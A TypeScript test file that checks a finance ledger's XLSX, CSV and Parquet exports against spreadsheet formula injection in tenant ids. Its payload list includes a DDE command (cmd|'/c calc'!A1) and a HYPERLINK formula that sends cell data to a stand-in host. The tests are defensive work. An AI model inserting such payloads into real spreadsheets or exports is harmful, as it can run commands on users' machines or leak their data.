import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import readExcel from 'read-excel-file/node';
import { expect, test } from 'vitest';
import type { SheetFormat } from '../../../src/reports/files/sheet-formats.ts';
import { writeSheetFile } from '../../../src/reports/files/write-sheet.ts';
import type { CsvStyle } from '../../../src/reports/formats/csv.ts';
import { viewSheet } from '../../../src/reports/queries/finance-view.ts';
import { openDuckDb } from '../../support/duckdb.ts';
import { openLedger, publish, usageRecord } from '../../support/open-ledger.ts';
import { temporaryFolder } from '../../support/temporary-folder.ts';
import { zipEntries } from './zip-entries.ts';

const OPERATORS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
const LEADS = [
  ...['', ' ', '   ', '\t', '\r', '\n', '\r\n', '\u00a0', '\ufeff', ' \u00a0\ufeff ', '\u2003', '\u3000', '\u200b'],
  ...['"', '\u0001', '\t=', 'a;', 'a,', 'a|', 'a\t', 'a\r\n', '";"'],
];
const TAILS = [
  ...["cmd|'/c calc'!A1", 'SUM(1;1)', '1', 'HYPERLINK("http://x.test/?"&A1,"x")', '_x000D_', '<b>&amp;', 'a,b', ''],
];
/** Distinct tenant ids that some spreadsheet would run as a formula. */
const HOSTILE = [
  ...new Set(
    LEADS.flatMap((lead) => OPERATORS.flatMap((operator) => TAILS.map((tail) => `${lead}${operator}${tail}`))),
  ),
];

/** Matches a cell that a spreadsheet would run, after the characters it skips. */
const RUNS = /^[\p{Z}\p{C}"]*[=+\-@＝＋－＠]/u;

/** Creates a ledger with a record of each id, and returns the rows of its view. */
async function hostileLedger() {
  const { connection } = openLedger();
  await publish(
    connection,
    HOSTILE.map((id, index) => usageRecord(id, index)),
  );
  const ids = connection.prepare('SELECT tenant_id FROM finance_usage ORDER BY tenant_id').pluck().all() as string[];
  const write = async (format: SheetFormat, style: CsvStyle = {}): Promise<string> => {
    const path = join(temporaryFolder(), `usage.${format}`);
    await writeSheetFile(viewSheet(connection, 'usage'), { path, format, style });
    return path;
  };
  return { ids, write };
}

test('the ledger stores over a thousand hostile ids exactly as the service sent them', async () => {
  expect(HOSTILE.length).toBeGreaterThan(1000);
  expect(new Set((await hostileLedger()).ids)).toEqual(new Set(HOSTILE));
});

test('are text in a workbook, and another reader returns them unchanged', async () => {
  const { ids, write } = await hostileLedger();
  const path = await write('xlsx');
  const sheets = (await readExcel(path, { trim: false })) as unknown as { data: unknown[][] }[];
  const [header, ...rows] = sheets[0]?.data ?? [];
  const column = header?.indexOf('tenant_id') ?? -1;
  // An empty row and the total follow.
  expect(rows.slice(0, ids.length).map((cells) => cells[column])).toEqual(ids);
  expect(rows).toHaveLength(ids.length + 2);
  const worksheets = Object.entries(zipEntries(readFileSync(path))).filter(([name]) => name.includes('worksheets/'));
  expect(worksheets).toHaveLength(1);
  for (const [, xml] of worksheets) {
    expect(xml).not.toMatch(/<f[\s>/]/);
    const cells = [...xml.matchAll(/<c r="B\d+"([^>]*)>/g)].map(([, attributes]) => attributes);
    expect(cells).toHaveLength(ids.length + 1);
    for (const attributes of cells) expect(attributes).toMatch(/ t="(inlineStr|s)"/);
  }
});

test('are not run from CSV by a spreadsheet with any separator, and lose nothing', async () => {
  const { ids, write } = await hostileLedger();
  for (const isGerman of [false, true]) {
    const text = readFileSync(await write('csv', { isGerman }), 'utf8');
    for (const separator of [/,/, /;/, /\t/, /[,;\t|]/]) {
      const cells = text.split(/\r\n|\r|\n/).flatMap((line) => line.split(separator));
      expect(cells.filter((cell) => RUNS.test(cell))).toEqual([]);
    }
    const records = parse(text, { columns: true, delimiter: isGerman ? ';' : ',' }) as { tenant_id: string }[];
    const withoutMarks = (id: string | undefined) => id?.replaceAll("'", '');
    expect(records.map(({ tenant_id }) => withoutMarks(tenant_id))).toEqual(ids.map(withoutMarks));
    for (const { tenant_id } of records) expect(RUNS.test(tenant_id), JSON.stringify(tenant_id)).toBe(false);
  }
  const raw = parse(readFileSync(await write('csv', { raw: true })), { columns: true }) as { tenant_id: string }[];
  expect(raw.map(({ tenant_id }) => tenant_id)).toEqual(ids);
});

test('are unchanged in Parquet', async () => {
  const { ids, write } = await hostileLedger();
  const duck = await openDuckDb();
  // Compared as bytes: DuckDB drops a byte order mark at the start of a text.
  const rows = await duck.rows(`SELECT hex(tenant_id) AS bytes FROM read_parquet('${await write('parquet')}')`);
  expect(rows.map(({ bytes }) => Buffer.from(String(bytes), 'hex').toString())).toEqual(ids);
});
